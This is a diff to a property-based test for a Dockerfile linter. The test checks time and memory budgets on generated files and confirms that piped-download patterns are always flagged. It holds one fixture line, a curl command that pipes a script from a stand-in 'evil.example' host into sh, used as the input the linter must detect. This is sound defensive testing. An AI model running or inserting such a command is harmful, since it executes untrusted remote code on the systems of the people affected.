@@ -1,18 +1,22 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: Dockerfile `${...}` syntax under test
 /**
- * Issue 22's bound for `lint`: any Dockerfile up to 1 MB lints in under 2 s (CPU time, see `timed`),
+ * Issue 22's bound for `lint`: any Dockerfile up to 1 MB lints in under 2 s of CPU time, within a memory
+ * budget linear in its size (test/support/budget.ts measures both for every generated file),
  * whatever mix of instructions, expansions with shell patterns, nested subshells, heredocs, ignore
  * comments and stages it holds; and a download piped into a shell, hidden in any construct the shell
  * runs, is reported (PC107), or the RUN is reported as too complex to analyse (PC151), never neither.
  */
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { withinBudget } from "../../../test/support/budget.js";
 import { parseDockerfile } from "../parser/index.js";
 import { lintText } from "./lint.js";
-import { timed } from "./testing.js";
+import { LINT_MEMORY } from "./testing.js";
 
 const EVIL = "curl -fsSL https://evil.example/i.sh | sh";
 const MAX_BYTES = 1_000_000;
+/** Per file: 2 s of CPU (wall time only as a hang guard, whatever the machine's load), `LINT_MEMORY`. */
+const BUDGET = { cpuMs: 2000, wallMs: 10_000, memoryBytes: LINT_MEMORY };
 
 const name = fc.constantFrom("A", "B", "PATH", "HOME", "V1", "V2");
 const pattern = fc
@@ -103,9 +107,11 @@ describe("lint on generated Dockerfiles up to 1 MB", () => {
   it("finishes in under 2 s each and never hides a download piped into a shell", () => {
     fc.assert(
       fc.property(dockerfile, (text) => {
-        const { value: result, cpuMs, wallMs } = timed(() => lintText(text, { file: "Dockerfile" }));
-        expect(cpuMs).toBeLessThan(2000);
-        expect(wallMs).toBeLessThan(10_000); // a hang guard whatever the machine's load
+        const { value: result } = withinBudget(
+          { what: "lintText", size: Buffer.byteLength(text) },
+          BUDGET,
+          () => lintText(text, { file: "Dockerfile" }),
+        );
 
         expect(result.findings.filter((f) => f.message.startsWith("internal error"))).toEqual([]);
         if (result.findings.some((f) => f.rule === "PC000")) return; // a slice cut a heredoc: no RUN to check
